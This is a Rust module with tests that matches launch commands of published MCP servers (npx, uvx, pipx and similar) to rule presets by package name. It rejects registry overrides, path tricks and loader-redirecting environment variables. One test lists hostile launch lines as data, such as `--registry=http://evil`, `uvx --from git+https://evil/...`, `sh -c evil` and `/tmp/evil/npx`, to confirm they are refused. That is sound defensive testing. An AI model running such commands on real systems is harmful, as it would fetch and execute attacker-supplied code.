//! Presets for published servers: which rules `init` writes for a server that it recognises. A server is recognised by the package it is
//! started from; its name says nothing, and a command that could run anything else is not recognised.

use std::path::Path;

use toml_edit::{Array, DocumentMut, InlineTable, Item, Table, Value, value};

use crate::environment;
use countersign_host_config::HostServerSpec;

const SERVERS: &str = include_str!("../../../../../presets/servers.toml");

/// Where a package comes from: the same name is another package elsewhere.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Registry {
    Npm,
    Pypi,
}

impl Registry {
    fn word(self) -> &'static str {
        match self {
            Self::Npm => "npm",
            Self::Pypi => "pypi",
        }
    }
}

pub(super) struct ServerPreset {
    pub(super) name: String,
    packages: Vec<(Registry, String)>,
    programs: Vec<String>,
    rules: Vec<InlineTable>,
    /// The folders that the recognised server works in, as its command line names them.
    folders: Vec<String>,
}

impl ServerPreset {
    /// All of them, in the order of the list.
    pub(super) fn all() -> Vec<Self> {
        // A test reads the list: it is never broken here.
        let document: DocumentMut = SERVERS.parse().unwrap_or_default();
        let servers = document.get("servers").and_then(Item::as_array_of_tables);
        servers.into_iter().flatten().map(Self::read).collect()
    }

    fn read(table: &Table) -> Self {
        let texts = |key: &str| -> Vec<String> {
            let list = table.get(key).and_then(Item::as_array);
            list.into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect()
        };
        let packages = [Registry::Npm, Registry::Pypi]
            .into_iter()
            .flat_map(|registry| texts(registry.word()).into_iter().map(move |name| (registry, name)))
            .collect();
        let rules = table.get("rules").and_then(Item::as_array);
        Self {
            name: table.get("name").and_then(Item::as_str).unwrap_or_default().to_owned(),
            packages,
            programs: texts("programs"),
            rules: rules.into_iter().flatten().filter_map(Value::as_inline_table).cloned().collect(),
            folders: Vec::new(),
        }
    }

    /// The preset of a server, if it is one of those.
    pub(super) fn of(server: &HostServerSpec) -> Option<Self> {
        let Package { registry, name, program, rest } = package(server)?;
        let own = |preset: &Self| {
            let is_own = |program: &str| {
                name.rsplit('/').next() == Some(program) || preset.programs.iter().any(|one| one == program)
            };
            preset.packages.iter().any(|(other, package)| *other == registry && *package == name)
                && program.as_deref().is_none_or(is_own)
        };
        let folders = rest.into_iter().filter(|word| Path::new(word).is_absolute() && !word.contains("${"));
        Self::all().into_iter().find(own).map(|preset| Self { folders: folders.collect(), ..preset })
    }

    /// What it is recognised by, for a person.
    pub(super) fn packages(&self) -> Vec<String> {
        self.packages.iter().map(|(registry, name)| format!("{}:{name}", registry.word())).collect()
    }

    pub(super) fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// The words of a preview that compares files, where it is known which files the server may show.
    fn file_preview(&self, program: &str) -> Option<Array> {
        let folders = self.folders.iter().flat_map(|folder| ["--in", folder.as_str()]);
        let words = [program, "preview-file"].into_iter().chain(folders);
        // A brace in a path would be read as an argument of the call.
        let is_plain = self.folders.iter().all(|folder| !folder.contains(['{', '}']));
        (is_plain && !self.folders.is_empty()).then(|| words.collect())
    }

    /// Its rules for an upstream of this name. `program` is how this program is started.
    pub(super) fn rules_for(&self, upstream: &str, program: &str) -> Vec<Table> {
        let rule = |written: &InlineTable| {
            let tools = written.get("tools").and_then(Value::as_array);
            let tools = tools.into_iter().flatten().filter_map(Value::as_str);
            let globs: Array = tools.map(|tool| format!("{upstream}:{tool}")).collect();
            let mut rule = Table::new();
            rule.insert("match", value(globs));
            for (key, field) in written.iter().filter(|(key, _)| *key != "tools") {
                match field.as_array() {
                    // Without folders the rule goes without a preview.
                    Some(words) if key == "preview" && is_file_preview(words) => {
                        if let Some(words) = self.file_preview(program) {
                            rule.insert(key, value(words));
                        }
                    }
                    Some(_) | None => drop(rule.insert(key, value(field.clone().decorated(" ", "")))),
                }
            }
            rule
        };
        self.rules.iter().map(rule).collect()
    }
}

/// Whether a preview is our own comparison of files.
fn is_file_preview(words: &Array) -> bool {
    words.iter().filter_map(Value::as_str).eq(["countersign", "preview-file"])
}

struct Package {
    registry: Registry,
    name: String,
    /// What of it runs, where that is said apart: it may be any program.
    program: Option<String>,
    /// The words the server itself gets.
    rest: Vec<String>,
}

impl Package {
    fn new(registry: Registry, name: Option<String>, program: Option<&str>, rest: &[&str]) -> Option<Self> {
        let rest = rest.iter().map(|word| (*word).to_owned()).collect();
        Some(Self { registry, name: name?, program: program.map(str::to_owned), rest })
    }
}

/// The package a server is started from, where its command can't mean another one.
fn package(server: &HostServerSpec) -> Option<Package> {
    let HostServerSpec::Stdio { command, args, env, cwd: _ } = server else { return None };
    // With these the same command takes its packages, or its programs, from elsewhere.
    let redirects = |name: &str| {
        let name = name.to_ascii_lowercase();
        ["npm_config_", "uv_", "pip_", "pipx_", "python", "node_", "bun_", "ld_", "dyld_"]
            .iter()
            .any(|prefix| name.starts_with(prefix))
            || name == "path"
    };
    if env.iter().any(|(name, _)| redirects(name)) {
        return None;
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match (program(command)?, args.as_slice()) {
        ("npx" | "bunx" | "pnpx", rest) => npm(rest),
        ("npm", ["exec" | "x", rest @ ..]) => npm(rest),
        ("pnpm" | "yarn", ["dlx", rest @ ..]) | ("bun", ["x", rest @ ..]) => npm(rest),
        ("uvx", rest) | ("uv", ["tool", "run", rest @ ..]) => pypi(rest, "--from"),
        ("pipx", ["run", rest @ ..]) => pypi(rest, "--spec"),
        _ => None,
    }
}

/// The name of a program that is found where programs are: one in any other place may be anything.
fn program(command: &str) -> Option<&str> {
    let path = Path::new(command);
    let name = path.file_name()?.to_str()?;
    let folder = path.parent().filter(|folder| !folder.as_os_str().is_empty());
    let programs = environment::variable("PATH").unwrap_or_default();
    let is_usual = |folder: &Path| std::env::split_paths(&programs).any(|one| one == folder);
    if !folder.is_none_or(is_usual) {
        return None;
    }
    Some(name.strip_suffix(".cmd").or_else(|| name.strip_suffix(".exe")).unwrap_or(name))
}

/// The package of `npx` and its kin: that of `--package`, else the first word. An option that is not known may change everything.
fn npm(args: &[&str]) -> Option<Package> {
    let named = |spec: &str, program, rest| Package::new(Registry::Npm, npm_name(spec), program, rest);
    match args {
        ["-y" | "--yes" | "-q" | "--quiet" | "--", rest @ ..] => npm(rest),
        ["-p" | "--package", spec, program, rest @ ..] => named(spec, Some(program), rest),
        [spec, rest @ ..] if !spec.starts_with('-') => named(spec, None, rest),
        _ => None,
    }
}

/// A name with or without a plain version; `name@npm:other` is another package.
fn npm_name(spec: &str) -> Option<String> {
    let at = spec.char_indices().skip(1).find(|(_, one)| *one == '@').map(|(at, _)| at);
    let (name, version) = at.map_or((spec, ""), |at| {
        (spec.get(..at).unwrap_or_default(), spec.get(at + 1..).unwrap_or_default())
    });
    is_plain_version(version).then(|| name.to_owned())
}

/// The package of `uvx` and its kin: that of `--from`, else the first word.
fn pypi(args: &[&str], from: &str) -> Option<Package> {
    let named = |spec: &str, program, rest| Package::new(Registry::Pypi, pypi_name(spec), program, rest);
    match args {
        ["-q" | "--quiet" | "--isolated" | "--refresh", rest @ ..] => pypi(rest, from),
        [option, spec, program, rest @ ..] if *option == from => named(spec, Some(program), rest),
        [spec, rest @ ..] if !spec.starts_with('-') => named(spec, None, rest),
        _ => None,
    }
}

/// A name as the index has it, with or without a plain version; an address or a path is no name.
fn pypi_name(spec: &str) -> Option<String> {
    let end = spec.find(['@', '=', '<', '>', '~', '!', '[']).unwrap_or(spec.len());
    let (name, rest) = spec.split_at(end);
    let version = match rest.strip_prefix('[') {
        Some(extras) => extras.split_once(']').map(|(_, version)| version)?,
        None => rest,
    };
    let version = version.trim_start_matches(['@', '=', '<', '>', '~', '!']);
    let plain =
        !name.is_empty() && name.chars().all(|one| one.is_ascii_alphanumeric() || "-_.".contains(one));
    let name = || name.to_ascii_lowercase().replace(['_', '.'], "-");
    (plain && is_plain_version(version)).then(name)
}

fn is_plain_version(version: &str) -> bool {
    version.chars().all(|one| one.is_ascii_alphanumeric() || ".-+^~*<>=,".contains(one))
}

#[cfg(test)]
mod tests {
    use super::*;
    use countersign_config::{self as config, Source};

    fn named(line: &str, env: &[(&str, &str)]) -> Option<String> {
        let mut words = line.split(' ').map(str::to_owned);
        let server = HostServerSpec::Stdio {
            command: words.next().unwrap(),
            args: words.collect(),
            env: env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
            cwd: None,
        };
        ServerPreset::of(&server).map(|preset| preset.name)
    }

    #[test]
    fn published_servers_are_recognised_by_their_package() {
        for (line, expect) in [
            ("npx -y @modelcontextprotocol/server-filesystem /srv", "filesystem"),
            ("npx.cmd --yes @modelcontextprotocol/server-filesystem@2026.8.31 /srv", "filesystem"),
            ("npx -p mcp-server-kubernetes mcp-server-kubernetes", "kubernetes"),
            ("bunx @playwright/mcp@latest --headless", "playwright"),
            ("npm exec --yes -- mongodb-mcp-server", "mongodb"),
            ("pnpm dlx tavily-mcp@^0.2", "tavily"),
            ("uvx mcp-server-git --repository /srv/app", "git"),
            ("uvx mcp_server_git==2026.10.19", "git"),
            ("uv tool run mcp-server-git@latest", "git"),
            ("uvx --from redis-mcp-server@latest redis-mcp-server --url redis://x", "redis"),
            ("uvx --from office-word-mcp-server word_mcp_server", "word"),
            ("pipx run arxiv-mcp-server", "arxiv"),
        ] {
            assert_eq!(named(line, &[]).as_deref(), Some(expect), "{line}");
        }
    }

    #[test]
    fn attack_another_server_gets_no_preset_by_a_name() {
        for line in [
            // Names alone, paths, and the same name in another registry.
            "git",
            "git mcp-server-git",
            "mcp-server-git",
            "/tmp/mcp-server-git",
            "./npx -y @modelcontextprotocol/server-filesystem",
            "/tmp/evil/npx -y @modelcontextprotocol/server-filesystem",
            "npx mcp-server-git",
            "uvx mongodb-mcp-server",
            "node /srv/node_modules/mongodb-mcp-server/index.js",
            // Another package behind the name.
            "npx -y mongodb-mcp-server@npm:evil@1.0.0",
            "npx -y mongodb-mcp-server@file:../evil",
            "npx -y mongodb-mcp-server@github:evil/evil",
            "npx -y evil/mongodb-mcp-server",
            "npx -p evil mongodb-mcp-server",
            "npx -p mongodb-mcp-server -c evil",
            "npx -p mongodb-mcp-server sh -c evil",
            "uvx --from redis-mcp-server python evil.py",
            "npx --registry=http://evil mongodb-mcp-server",
            "npx -y --registry http://evil mongodb-mcp-server",
            "npx evil mongodb-mcp-server",
            "uvx --from evil mcp-server-git",
            "uvx --from git+https://evil/mcp-server-git mcp-server-git",
            "uvx mcp-server-git@git+https://evil/x",
            "uvx --index-url http://evil mcp-server-git",
            "uvx --with evil mcp-server-git",
            "uvx ./mcp-server-git",
            "pipx run --spec evil mcp-server-git",
            "sh -c uvx mcp-server-git",
            "npx",
            "uvx --from",
        ] {
            assert_eq!(named(line, &[]), None, "{line}");
        }
        for name in
            ["npm_config_registry", "UV_INDEX_URL", "PIP_INDEX_URL", "PATH", "PYTHONPATH", "NODE_OPTIONS"]
        {
            assert_eq!(named("uvx mcp-server-git", &[(name, "x")]), None, "{name}");
        }
        assert_eq!(named("uvx mcp-server-git", &[("LOG", "x")]).as_deref(), Some("git"));
    }

    #[test]
    fn every_preset_makes_rules_without_a_warning() {
        let all = ServerPreset::all();
        assert!(all.len() >= 19, "{}", all.len());
        for preset in all {
            assert!(!preset.name.is_empty() && !preset.packages.is_empty(), "{}", preset.name);
            let mut document = DocumentMut::new();
            let preset = ServerPreset { folders: vec!["/srv/app".to_owned()], ..preset };
            let rules: toml_edit::ArrayOfTables =
                preset.rules_for("mine", "countersign").into_iter().collect();
            assert!(!rules.is_empty(), "{}", preset.name);
            document.insert("rules", Item::ArrayOfTables(rules));
            let text = document.to_string();
            let config = config::parse(&[Source::new("countersign.toml", text.as_str())]).unwrap();
            assert!(config::lint(&config).is_empty(), "{text}{:#?}", config::lint(&config));
            assert!(config.rules.rules().iter().all(|rule| rule.effect.is_some()), "{text}");
            assert!(
                config
                    .rules
                    .rules()
                    .iter()
                    .flat_map(|rule| &rule.globs)
                    .all(|glob| glob.starts_with("mine:"))
            );
        }
    }
}
